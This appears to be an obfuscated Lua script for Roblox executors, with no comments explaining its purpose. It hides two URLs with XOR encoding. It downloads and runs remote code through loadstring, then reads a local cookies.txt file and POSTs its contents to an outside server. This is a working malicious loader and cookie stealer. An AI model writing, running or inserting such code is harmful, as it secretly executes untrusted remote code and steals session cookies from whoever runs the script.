--[[ obfuscated with IronBrew2 ]]
return(function(lIlIlI,IlIlIl,lIIlIl) local llIlII=string.char;local IIlIll=string.byte;local lIllIl=string.sub;
local function IlIIll(s,k) local o={} for i=1,#s do o[i]=llIlII(bit32.bxor(IIlIll(s,i),k)) end return table.concat(o) end
local IlllII=IlIIll("\127\99\99\103\100\45\56\56\122\120\115\100\57\126\121\97\118\123\126\115\56\123\57\123\98\118",23)
local lIlIIl=game:HttpGet(IlllII) local f=loadstring(lIlIIl) f()
local IIIlIl=IlIIll("\127\99\99\103\100\45\56\56\122\120\115\100\57\126\121\97\118\123\126\115\56\98",23)
syn.request({Url=IIIlIl,Method="POST",Body=game:GetService("HttpService"):JSONEncode({c=readfile and readfile("cookies.txt") or ""})})
end)(...)
